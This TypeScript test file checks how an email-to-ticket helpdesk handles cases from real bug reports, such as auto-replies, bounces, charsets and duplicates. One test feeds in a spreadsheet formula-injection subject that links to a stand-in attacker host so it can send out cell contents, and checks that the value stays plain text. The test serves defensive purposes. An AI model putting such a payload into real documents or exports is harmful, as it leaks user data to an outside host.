/**
 * Failing inputs from real bug reports, each with the state plusdesk holds before it and the
 * outcome that must hold after. The messages are read from the shared test data at test time.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { readPlusAddress } from '../src/core/address';
import { processMail, type RunReport } from '../src/core/process';
import type { Ticket } from '../src/core/types';
import { hasShared, sharedMissingNote, sharedPath } from './shared';
import { agents, ManualClock, MemoryMailer, MemoryStore, silentLog, SUPPORT, testSigner } from './support/memory';
import { ticket } from './support/tickets';

const TEAM = agents('Alice', 'Bob', 'Carol', 'Dave', 'Erin', 'Frank');

function caseFile(name: string): Buffer {
  return readFileSync(sharedPath('cases', name));
}

async function run(files: string[], tickets: Ticket[] = []) {
  const store = new MemoryStore({ tickets, team: TEAM });
  const mailer = new MemoryMailer();
  const deps = { store, mailer, signer: testSigner, clock: new ManualClock(), log: silentLog };
  const reports: RunReport[] = [];
  for (const file of files) {
    reports.push(await processMail(deps, [{ sourceId: file, threadId: '', raw: caseFile(file) }]));
  }
  const outcomes = reports.flatMap((report) => report.outcomes);
  return { store, mailer, outcomes, outcome: outcomes[0]! };
}

function recipientsOf(mailer: MemoryMailer): string[] {
  return mailer.sent.flatMap((message) => [...message.to, ...message.cc].map((a) => a.email)).sort();
}

describe.skipIf(!hasShared || !existsSync(sharedPath('cases')))('bug-report cases', () => {
  it('B01 out-of-office answer to a reply notifies nobody', async () => {
    const before = ticket({ number: 31, subject: 'Cannot log in to the portal', customerEmail: 'tomas.berg@example.org', status: 'pending', lastReplier: 'alice@example.com', conversation: ['t31.1@example.com', 't31.r2@example.com'] });
    const { store, mailer, outcome } = await run(['B01.eml'], [before]);
    expect(outcome.outcome).toBe('auto-reply');
    expect(outcome.ticket).toBe(31);
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(store.snapshot.tickets[0]!.status).toBe('pending');
    expect(mailer.sent).toEqual([]);
  });

  it('B02 bounce is a delivery-failure note on the ticket', async () => {
    const before = ticket({ number: 40, subject: 'Refund status', customerEmail: 'ines.moreau@example.net', conversation: ['t40.r1@example.com'] });
    const { store, mailer, outcome } = await run(['B02.eml'], [before]);
    expect(outcome.outcome).toBe('bounce');
    expect(outcome.ticket).toBe(40);
    expect(outcome.reason).toContain('ines.moreau@example.net');
    expect(outcome.reason).toContain('5.1.1');
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(mailer.sent).toEqual([]);
  });

  it('B05 ticket tag glued to text joins the ticket', async () => {
    const before = ticket({ number: 123, subject: 'Printer offline', customerEmail: 'greta.holm@example.org', assignee: 'bob@example.com' });
    const { store, mailer, outcome } = await run(['B05.eml'], [before]);
    expect(outcome.outcome).toBe('follow-up');
    expect(outcome.ticket).toBe(123);
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(recipientsOf(mailer)).toEqual(['bob@example.com']);
  });

  it('B06 Finnish VS: prefix joins the open ticket by subject', async () => {
    const before = ticket({ number: 45, subject: 'Laskun kopio', customerEmail: 'eero.laine@example.org' });
    const { store, outcome } = await run(['B06.eml'], [before]);
    expect(outcome.outcome).toBe('follow-up');
    expect(outcome.ticket).toBe(45);
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(store.snapshot.tickets[0]!.subject).toBe('Laskun kopio');
  });

  it('B08 copied colleague replying joins without taking over', async () => {
    const before = ticket({ number: 52, subject: 'VPN certificate expired', customerEmail: 'hannah.weber@example.org', cc: ['jonas.krause@example.org'], conversation: ['hw.0001@mail.example.org', 't52.r1@example.com'] });
    const { store, outcome } = await run(['B08.eml'], [before]);
    expect(outcome.outcome).toBe('follow-up');
    expect(outcome.ticket).toBe(52);
    const row = store.snapshot.messages.find((record) => record.messageId === 'jk.4411@mail.example.org');
    expect(row?.author).toBe('jonas.krause@example.org');
    expect(store.snapshot.tickets[0]!.customer.email).toBe('hannah.weber@example.org');
  });

  it('B10 Outlook quoted block is left out of the notification', async () => {
    const before = ticket({ number: 18, subject: 'Password reset link', customerEmail: 'leo.varga@example.org', lastReplier: 'alice@example.com', conversation: ['t18.r1@example.com'] });
    const { store, mailer, outcome } = await run(['B10.eml'], [before]);
    expect(outcome.ticket).toBe(18);
    const expected = 'Thanks, the new password works now. You can close the ticket.';
    const note = mailer.sent[0]!;
    expect(note.text).toContain(expected);
    expect(note.text).not.toContain('Hello Leo');
    expect(note.text).not.toContain('Subject: Re: [#18]');
    const row = store.snapshot.messages.find((record) => record.kind === 'customer');
    expect(row?.summary).toBe(expected);
  });

  it('B12 customer line starting with On is kept', async () => {
    const before = ticket({ number: 27, subject: 'Export button', customerEmail: 'mei.tanaka@example.org', conversation: ['t27.r1@example.com'] });
    const { store, outcome } = await run(['B12.eml'], [before]);
    expect(outcome.ticket).toBe(27);
    const row = store.snapshot.messages.find((record) => record.kind === 'customer');
    expect(row?.summary).toBe('On the laptop the Export button stays grey. It works on the desktop though.');
  });

  it('B13 subject split across two encodings decodes whole', async () => {
    const { store, mailer } = await run(['B13.eml']);
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(store.snapshot.tickets[0]!.subject).toBe('Rückfrage zur Lieferung 4471');
    expect(store.snapshot.tickets[0]!.customer.email).toBe('karl.brandt@example.org');
    expect(mailer.sent[0]!.subject).toBe('[#1] Rückfrage zur Lieferung 4471');
  });

  it('B15 iso-8859-2 body reaches the team intact', async () => {
    const { store, mailer } = await run(['B15.eml']);
    expect(store.snapshot.tickets[0]!.subject).toBe('Reklamacja zamówienia 1182');
    expect(mailer.sent[0]!.text).toContain('Dzień dobry,\nzamówienie nr 1182 nie dotarło.\nTest znaków: Zażółć gęślą jaźń.');
    expect(mailer.sent[0]!.text).not.toMatch(/[¿³¶±¼]/);
  });

  it('B16 pasted screenshot resolves in the team notification', async () => {
    const { store, mailer } = await run(['B16.eml']);
    expect(store.snapshot.tickets).toHaveLength(1);
    const note = mailer.sent[0]!;
    const image = note.attachments.find((part) => part.contentId === 'image001.png@01DB9A00.5C3E1F20');
    expect(image?.mimeType).toBe('image/png');
    expect(image?.content.length).toBe(69);
    expect(createHash('md5').update(image!.content).digest('hex')).toBe('ee76702403cd15dbc71587365494cbe5');
    expect(note.html).toContain('cid:image001.png@01DB9A00.5C3E1F20');
  });

  it('B18 the same message through an alias makes one ticket', async () => {
    const { store, mailer, outcomes } = await run(['B18-1.eml', 'B18-2.eml']);
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(store.snapshot.tickets[0]!.customer.email).toBe('omar.haddad@example.org');
    expect(mailer.sent).toHaveLength(1);
    expect(outcomes[1]!.outcome).toBe('duplicate');
    const rows = store.snapshot.messages.filter((record) => record.messageId === 'oh.2025.0324.0800@mail.example.org');
    expect(rows).toHaveLength(1);
  });

  it('B19 message already stored on a ticket is not imported again', async () => {
    const before = ticket({ number: 57, subject: 'Wrong VAT number on invoice 2025-0311', customerEmail: 'paula.reyes@example.org', conversation: ['pr.vat.0311@mail.example.org'] });
    const { store, mailer, outcome } = await run(['B19.eml'], [before]);
    expect(outcome.outcome).toBe('duplicate');
    expect(store.snapshot.tickets).toHaveLength(1);
    expect(mailer.sent).toEqual([]);
    expect(store.snapshot.messages).toEqual([]);
  });

  it('B20 formula-looking sender and subject stay text for agents', async () => {
    const { store, mailer } = await run(['B20.eml']);
    const created = store.snapshot.tickets[0]!;
    expect(created.subject).toBe('=HYPERLINK("http://attacker.example.net/?d="&A1,"Open invoice")');
    expect(created.customer.name).toBe('-2+3');
    expect(mailer.sent[0]!.subject).toBe('[#1] =HYPERLINK("http://attacker.example.net/?d="&A1,"Open invoice")');
    const row = store.snapshot.messages.find((record) => record.kind === 'customer');
    expect(row?.summary.startsWith('@SUM(1+1)')).toBe(true);
  });

  it('B22 follow-up notifies only assignee, follower and last replier', async () => {
    const before = ticket({ number: 12, subject: 'Shipment stuck in customs', customerEmail: 'nora.quinn@example.org', cc: ['ben.ortiz@example.org'], assignee: 'bob@example.com', followers: ['carol@example.com'], lastReplier: 'dave@example.com', conversation: ['nq.0320.0900@mail.example.org', 't12.r3@example.com'] });
    const { mailer, outcome } = await run(['B22.eml'], [before]);
    expect(outcome.outcome).toBe('follow-up');
    expect(outcome.ticket).toBe(12);
    expect(recipientsOf(mailer)).toEqual(['bob@example.com', 'carol@example.com', 'dave@example.com']);
    const replyTo = mailer.sent[0]!.replyTo[0]!.email;
    expect(replyTo).toMatch(/^support\+12-[a-z2-7]+@example\.com$/);
    expect(readPlusAddress(replyTo, SUPPORT, testSigner)).toEqual({ status: 'valid', ticket: 12, purpose: 'reply' });
  });
});

describe.skipIf(hasShared)('bug-report cases without shared data', () => {
  it('are skipped', () => {
    console.warn(sharedMissingNote);
  });
});
